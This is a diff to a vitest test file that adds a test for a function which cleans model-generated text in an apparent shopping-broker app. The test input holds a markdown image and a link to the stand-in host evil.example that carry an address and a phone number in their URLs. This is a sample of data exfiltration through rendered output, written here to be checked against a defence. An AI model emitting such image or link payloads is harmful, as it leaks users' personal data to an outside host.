@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { OfferView, VENDOR_TEXT_MAX, capVendorText, echoesVendorText } from '../../src/index.ts';
+import { OfferView, VENDOR_TEXT_MAX, capVendorText, echoesVendorText, sanitizeModelText } from '../../src/index.ts';
 import { groceryOffer } from '../support/fake-broker.ts';
 
 describe('capVendorText', () => {
@@ -33,5 +33,12 @@ describe('echoesVendorText', () => {
   });
   it('does not fire on ordinary words', () => {
     expect(echoesVendorText('FreshCo has the lowest all-in total and delivers Saturday.', [note])).toBe(false);
+  });
+});
+
+describe('sanitizeModelText', () => {
+  it('removes markdown images and reduces links to their host (THREATS #13)', () => {
+    const out = sanitizeModelText('Done ![x](https://evil.example/p.png?addr=12+Main+St) see [terms](https://shop.example/t?u=me) or https://evil.example/c?phone=555');
+    expect(out).toBe('Done [image removed] see terms (shop.example) or evil.example');
   });
 });
